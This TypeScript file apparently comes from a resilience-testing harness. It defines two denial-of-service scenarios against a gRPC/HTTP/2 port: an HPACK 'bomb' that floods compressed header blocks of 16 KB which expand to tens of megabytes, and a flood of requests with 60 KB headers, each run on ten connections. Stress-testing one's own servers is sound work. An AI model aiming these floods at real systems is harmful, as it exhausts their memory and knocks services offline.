/** Header lists that are large, or become large when HPACK expands them. */
import {
  callHeaders,
  FRAME,
  headerBlock,
  headerFrames,
  http2Frame,
  keptHeader,
  NEWEST_ENTRY,
} from '../../tools/network/http2-frames.ts';
import { HEALTH } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { attackInLanes, flood, WHOLE_REQUEST } from '../wire.ts';

const CONNECTIONS = 10;
/** Just below what the table of HPACK keeps. */
const KEPT_BYTES = 3_900;
/** A frame of references: 16 KB that stand for 62 MB. */
const REFERENCES = 15_000;
const LIST_HEADERS = 60;
const LIST_VALUE_BYTES = 1_000;

export const hpackBomb: Attack = {
  name: 'hpack-bomb',
  title: `header blocks of 16 KB that expand to 58 MB, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async (lanes, index) => {
      const wire = await lanes.open({ port: target.grpcPort, address: index });
      if (wire === null) return null;
      const first = Buffer.concat([callHeaders(HEALTH), keptHeader('x-kept', 'x'.repeat(KEPT_BYTES))]);
      await wire.write(http2Frame(FRAME.HEADERS, WHOLE_REQUEST, 1, first));
      const block = Buffer.concat([callHeaders(HEALTH), Buffer.alloc(REFERENCES, NEWEST_ENTRY)]);
      let stream = 3;
      await flood(lanes, wire, () => {
        const bytes = http2Frame(FRAME.HEADERS, WHOLE_REQUEST, stream, block);
        stream += 2;
        return { bytes, count: 1 };
      });
      return wire;
    }),
};

export const largeHeaders: Attack = {
  name: 'large-headers',
  title: `requests with 60 KB of headers, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async (lanes, index) => {
      const wire = await lanes.open({ port: target.grpcPort, address: index });
      if (wire === null) return null;
      const value = 'x'.repeat(LIST_VALUE_BYTES);
      const list = Object.fromEntries(Array.from({ length: LIST_HEADERS }, (_, number) => [`x-${number}`, value]));
      const block = Buffer.concat([callHeaders(HEALTH), headerBlock(list)]);
      let stream = 1;
      await flood(lanes, wire, () => {
        const bytes = headerFrames(stream, block, WHOLE_REQUEST);
        stream += 2;
        return { bytes, count: 1 };
      });
      return wire;
    }),
};
